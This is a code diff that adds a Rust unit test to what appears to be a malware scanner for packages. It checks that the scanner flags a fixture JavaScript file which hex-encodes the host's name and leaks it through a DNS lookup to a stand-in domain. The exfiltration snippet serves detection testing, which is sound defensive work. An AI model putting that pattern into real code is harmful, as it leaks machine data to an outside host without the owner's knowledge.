@@ -119,4 +119,20 @@ mod tests {
         );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
     }
+
+    #[test]
+    fn dns_name_with_host_data_is_critical() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "d.js",
+                "const dns = require('dns'), os = require('os');\nfunction b() {\n  const l = Buffer.from(os.hostname()).toString('hex');\n  dns.resolve4(`${l}.t.example.net`, () => {});\n}\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/suspicious-endpoint"),
+            vec![("d.js".to_string(), 4)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
 }
